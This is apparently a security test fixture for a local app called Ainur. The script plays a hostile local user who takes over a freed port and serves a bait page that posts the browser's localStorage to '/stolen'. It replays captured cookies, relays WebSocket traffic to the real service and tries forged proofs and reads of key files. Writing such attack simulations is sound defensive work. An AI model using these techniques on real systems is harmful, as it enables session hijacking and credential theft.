import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { WebSocket, WebSocketServer } from 'ws'
// Read before the user changes: the other one may not look into this folder.
import { proveToCore, wireOf } from '../../src/contract/handshake.ts'

// Another user of this machine: takes a port that a core had, listens to whoever comes, passes on what they say to the
// core's new port with the cookie they brought, and tries by itself to get in. Told what to do by lines of JSON.
// thief.ts <port> <data folder> [<uid> <gid>]

const [port = '0', dataDir = '', uid, gid] = process.argv.slice(2)
if (uid !== undefined) {
  process.setgroups!([])
  process.setgid!(Number(gid))
  process.setuid!(Number(uid))
}
const say = (line: object) => console.log(JSON.stringify(line))

/** What pages and programs brought. */
let cookie = ''
let stored: Record<string, string> = {}
/** The port of the core that it would like to be taken for. */
const aim = Promise.withResolvers<number>()

const bait = `<!doctype html><title>Ainur</title><script>
fetch('/stolen', { method: 'POST', body: JSON.stringify({ ...localStorage }) }).then(() => (document.title = 'taken'))
</script>`

async function answer(request: IncomingMessage, response: ServerResponse) {
  cookie = request.headers.cookie ?? cookie
  if (request.method === 'POST') {
    let body = ''
    for await (const part of request) body += String(part)
    stored = JSON.parse(body) as Record<string, string>
  }
  const { authorization } = request.headers
  say({ event: 'asked', path: request.url, authorization: authorization ?? null })
  if (request.url === '/session') response.writeHead(204).end()
  else
    response
      .writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'max-age=31536000, immutable' })
      .end(bait)
}

/** The cookie as the core's port would have it. */
const renamed = (to: number) => cookie.replace(/ainur-\d+=/, `ainur-${to}=`)

function dial(to: number, path = '/rpc'): WebSocket {
  const headers = path === '/rpc' ? { cookie: renamed(to), origin: `http://127.0.0.1:${to}` } : {}
  return new WebSocket(`ws://127.0.0.1:${to}${path}`, { headers }).on('error', () => {})
}

const server = createServer((request, response) => void answer(request, response))
const sockets = new WebSocketServer({ server })
// Its server's, which is tried again.
sockets.on('error', () => {})
sockets.on('connection', (victim, request) => {
  cookie = request.headers.cookie ?? cookie
  say({ event: 'socket', path: request.url, authorization: request.headers.authorization ?? null })
  victim.on('error', () => {})
  // What it says first waits until there is somebody to pass it on to.
  const core = aim.promise.then((to) => dial(to, request.url))
  victim.on('message', (data, isBinary) => {
    say({ event: 'heard', text: String(data) })
    void core.then(async (open) => {
      const joined = await joins(open)
      if (joined) open.send(data, { binary: isBinary })
      else victim.send(guess)
    })
  })
  void core.then((open) => open.on('message', (data, isBinary) => victim.send(data, { binary: isBinary })))
})

/** For want of the true one. */
const zeros = '0'.repeat(64)
const guess = JSON.stringify({ nonce: zeros, proofs: { run: zeros, session: zeros, attach: zeros } })
const joins = async (socket: WebSocket): Promise<boolean> => {
  if (socket.readyState === WebSocket.CONNECTING)
    await Promise.race([once(socket, 'open'), once(socket, 'close')]).catch(() => {})
  return socket.readyState === WebSocket.OPEN
}

/** How far the stolen cookie and what the page had stored lead at a core. */
async function tryToGetIn(to: number) {
  const page = await fetch(`http://127.0.0.1:${to}/`, { headers: { cookie: renamed(to) } })
  const socket = dial(to)
  const wire = wireOf(socket)
  const upgrade = await new Promise<number>((resolve) => {
    socket.on('open', () => resolve(101))
    socket.on('unexpected-response', (_, { statusCode }) => resolve(statusCode ?? 0))
  })
  let proof = 'no socket'
  if (upgrade === 101) {
    const secrets = { run: stored['ainur:run'] ?? null, session: stored['ainur:run'] ?? null }
    proof = await proveToCore(wire, { secrets, where: `127.0.0.1:${to}` }).then(
      () => 'in',
      (error: Error) => error.name,
    )
  }
  say({ event: 'tried', page: page.status, upgrade, proof, stored: Object.keys(stored) })
}

const mayRead = (name: string) => {
  try {
    return readFileSync(join(dataDir, name)).length > 0
  } catch {
    return false
  }
}

function take(wanted: number): void {
  server.removeAllListeners('listening')
  server.once('error', () => setTimeout(() => take(wanted), 20))
  server.listen(wanted, '127.0.0.1', () => {
    server.removeAllListeners('error')
    const reads = ['attach.json', 'session.key', 'local.db'].filter(mayRead)
    say({
      event: 'listening',
      port: (server.address() as AddressInfo).port,
      uid: process.getuid?.() ?? null,
      reads,
    })
  })
}
take(Number(port))

createInterface({ input: process.stdin }).on('line', (line) => {
  const order = JSON.parse(line) as { passOnTo?: number; getInto?: number; leave?: true }
  if (order.passOnTo !== undefined) aim.resolve(order.passOnTo)
  if (order.getInto !== undefined) void tryToGetIn(order.getInto)
  if (order.leave !== undefined) {
    for (const socket of sockets.clients) socket.terminate()
    server.closeAllConnections()
    server.close(() => say({ event: 'left' }))
  }
})
